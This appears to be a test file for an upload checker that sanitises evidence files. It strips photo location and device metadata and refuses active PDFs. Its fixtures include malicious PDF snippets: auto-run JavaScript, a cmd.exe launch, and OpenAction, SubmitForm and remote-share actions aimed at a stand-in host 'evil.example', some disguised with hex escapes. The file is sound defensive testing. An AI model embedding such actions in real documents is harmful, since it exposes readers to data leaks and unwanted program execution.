import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type CheckedFile, checkedFile } from '../../../src/domain/evidence/checked-file.js';
import { MOST_EVIDENCE_BYTES, savedName } from '../../../src/domain/evidence/evidence-file.js';
import { chunk, exif, GPS_MARK, jfif, jpeg, jpegComment, pdf, png } from '../../support/builders/pictures.js';

const text = (content: string) => Buffer.from(content, 'latin1');
const faultOf = (file: CheckedFile) => (file.kind === 'REFUSED' ? file.fault : undefined);
const bytesOf = (file: CheckedFile) => {
  if (file.kind === 'REFUSED') throw new Error(file.fault);
  return file.bytes;
};
const shown = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');

test('the content decides of which type a file is', () => {
  for (const [bytes, type] of [
    [jpeg(), 'JPEG'],
    [png(), 'PNG'],
    [pdf(), 'PDF'],
  ] as const)
    expect(checkedFile(bytes)).toMatchObject({ kind: 'KEPT', file: { type, size: bytes.length } });
  for (const content of ['', 'GIF89a', '<html>', 'MZ', 'PK\x03\x04', ' %PDF-1.4\n%%EOF', 'RIFF....WEBP'])
    expect(faultOf(checkedFile(text(content)))).toBe('EVIDENCE_FILE_TYPE');
  expect(faultOf(checkedFile(undefined))).toBe('EVIDENCE_NOT_UPLOADED');
});

test('a file is named by the SHA-256 of what is kept', () => {
  const file = checkedFile(jpeg({ before: exif(1) }));
  const sha256 = createHash('sha256').update(jpeg()).digest('hex');
  expect(file).toMatchObject({ file: { sha256, size: jpeg().length } });
});

test('10 MB are accepted and one byte more is not', () => {
  const filled = (size: number) => {
    const empty = pdf('%');
    return pdf(`%${'x'.repeat(size - empty.length)}`);
  };
  expect(filled(MOST_EVIDENCE_BYTES)).toHaveLength(MOST_EVIDENCE_BYTES);
  expect(faultOf(checkedFile(filled(MOST_EVIDENCE_BYTES)))).toBeUndefined();
  expect(faultOf(checkedFile(filled(MOST_EVIDENCE_BYTES + 1)))).toBe('EVIDENCE_FILE_TOO_LARGE');
});

test('a JPEG comes back without place, device, comment and what follows its end, and is the same picture', () => {
  const picture = jpeg({ before: [...jfif, ...exif(1), ...jpegComment('Nguyễn')], after: [...text(GPS_MARK)] });
  expect(shown(picture)).toContain(GPS_MARK);
  expect(Buffer.from(bytesOf(checkedFile(picture)))).toEqual(Buffer.from(jpeg({ before: jfif })));
});

test('a picture that was taken on its side stays upright', () => {
  const turned = bytesOf(checkedFile(jpeg({ before: exif(6) })));
  expect(shown(turned)).toContain('Exif\0\0MM');
  expect(shown(turned)).not.toContain('GPS');
  // A second pass reads the side that the first has written.
  expect(Buffer.from(bytesOf(checkedFile(turned)))).toEqual(Buffer.from(turned));
  for (const none of [0, 1, 9])
    expect(Buffer.from(bytesOf(checkedFile(jpeg({ before: exif(none) }))))).toEqual(Buffer.from(jpeg()));
});

test('a PNG comes back without texts, times and EXIF', () => {
  const metadata = ['tEXt', 'iTXt', 'zTXt', 'eXIf', 'tIME', 'prVt'].map((name) => chunk(name, text(GPS_MARK)));
  const gamma = chunk('gAMA', Uint8Array.of(0, 0, 0xb1, 0x8f));
  const file = checkedFile(png([...metadata, gamma], text(GPS_MARK)));
  expect(Buffer.from(bytesOf(file))).toEqual(Buffer.from(png([gamma])));
});

test('half a file is damaged', () => {
  for (const whole of [jpeg({ before: exif(6) }), png()])
    for (let length = 12; length < whole.length; length++)
      expect(faultOf(checkedFile(whole.subarray(0, length)))).toBe('EVIDENCE_FILE_DAMAGED');
  expect(faultOf(checkedFile(pdf().subarray(0, 100)))).toBe('EVIDENCE_FILE_DAMAGED');
});

test('a document with scripts, programs or hidden files is refused', () => {
  for (const active of [
    '4 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj',
    '4 0 obj\n<</S/J#61vaScript>>\nendobj',
    '4 0 obj\n<</S /Launch/F(cmd.exe)>>\nendobj',
    '4 0 obj\n<</Names<</EmbeddedFiles 5 0 R>>>>\nendobj',
    '4 0 obj\n<</Length 3>>\nstream\nabc\nendstream\nendobj\n5 0 obj\n<</XFA 6 0 R>>\nendobj',
    '4 0 obj\n<</Length 3>>\nstream\n/JS without an end',
  ])
    expect(faultOf(checkedFile(pdf(active))), active).toBe('EVIDENCE_FILE_ACTIVE');
  for (const harmless of [
    '4 0 obj\n<</OpenAction[3 0 R/Fit]>>\nendobj',
    '4 0 obj\n<</Length 4>>\nstream\n/JS \nendstream\nendobj',
    '4 0 obj\n<</JSON 1/Launcher 2>>\nendobj',
  ])
    expect(faultOf(checkedFile(pdf(harmless))), harmless).toBeUndefined();
});

test('a document that sends, opens an address or a share by itself is refused, whatever comments stand between', () => {
  for (const active of [
    '4 0 obj\n<</OpenAction<</S/URI/URI(http://evil.example)>>>>\nendobj',
    '4 0 obj\n<</OpenAction 5 0 R>>\nendobj\n5 0 obj\n<</S/URI/URI(http://evil.example)>>\nendobj',
    '4 0 obj\n<</OpenAction % see\n 5 0 % below\n R>>\nendobj\n5 0 obj\n<</S % a\n/SubmitForm/F(x)>>\nendobj',
    '4 0 obj\n<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>>>\nendobj\n6 0 obj\n<</S/GoToR/F(\\\\evil\\share)>>\nendobj',
    '4 0 obj\n<</AA<</O 7 0 R>>>>\nendobj\n7 0 obj\n<</S/URI/URI(http://evil.example)>>\nendobj',
    '4 0 obj\n<</Open#41ction<</S/U#52I/URI(http://evil.example)>>>>\nendobj',
    '4 0 obj\n<</A<</S/SubmitForm/F(http://evil.example)>>>>\nendobj',
    '% >> stream\n4 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj',
    '% >> stream\n4 0 obj\n<</Names<</JS 5 0 R>>>>\nendobj',
    '4 0 obj\n<</S %\n/JavaScript %\n/JS %\n(app.alert(1))>>\nendobj',
    '4 0 obj\n<</Title(100%)/OpenAction<</S/URI/URI(http://evil.example)>>>>\nendobj',
  ])
    expect(faultOf(checkedFile(pdf(active))), active).toBe('EVIDENCE_FILE_ACTIVE');
  for (const harmless of [
    // A link that somebody has to click, as word processors write it.
    '4 0 obj\n<</Subtype/Link/A<</S/URI/URI(https://chodon.example)>>>>\nendobj',
    '4 0 obj\n<</OpenAction[3 0 R/XYZ null null 0]>>\nendobj',
    '4 0 obj\n<</OpenAction 5 0 R>>\nendobj\n5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj',
    '4 0 obj\n<</OpenAction[9 0 R/Fit]/X 1>>\nendobj\n9 0 obj\n<</Type/Page/Annots[8 0 R]>>\nendobj\n8 0 obj\n<</A<</S/URI>>>>\nendobj',
  ])
    expect(faultOf(checkedFile(pdf(harmless))), harmless).toBeUndefined();
});

test('whatever is sent, the check ends without an error, and what is kept is kept again as it is', () => {
  const seeds = [jpeg({ before: [...jfif, ...exif(6)] }), png([chunk('tEXt', text('a'))]), pdf()];
  const mutated = fc
    .tuple(fc.constantFrom(...seeds), fc.array(fc.tuple(fc.nat(400), fc.nat(255)), { maxLength: 6 }), fc.nat(400))
    .map(([seed, changes, cut]) => {
      const bytes = Uint8Array.from(seed.subarray(0, cut % 5 === 0 ? cut : undefined));
      for (const [at, value] of changes) if (at < bytes.length) bytes[at] = value;
      return bytes;
    });
  fc.assert(
    fc.property(fc.oneof(mutated, fc.uint8Array({ maxLength: 300 })), (bytes) => {
      const file = checkedFile(bytes);
      if (file.kind === 'KEPT') expect(checkedFile(file.bytes)).toEqual(file);
    }),
    { numRuns: 2_000 },
  );
});

test('what stands in the metadata is gone, whatever it is', () => {
  fc.assert(
    fc.property(
      fc.string({ minLength: 12, maxLength: 60 }),
      fc.constantFrom(0xe1, 0xe3, 0xed, 0xef, 0xfe),
      (secret, marker) => {
        const content = [...Buffer.from(`!${secret}`, 'utf8')];
        const segment = [0xff, marker, 0, content.length + 2, ...content];
        const kept = bytesOf(checkedFile(jpeg({ before: segment, after: content })));
        expect(Buffer.from(kept)).toEqual(Buffer.from(jpeg()));
      },
    ),
  );
});

test('the name under which a file is saved ends as its content does', () => {
  expect(savedName({ name: 'Biên bản họp.PDF', type: 'PDF' })).toBe('Biên bản họp.pdf');
  expect(savedName({ name: 'ảnh.exe', type: 'JPEG' })).toBe('ảnh.exe.jpg');
  expect(savedName({ name: 'ảnh.jpeg', type: 'PNG' })).toBe('ảnh.png');
});
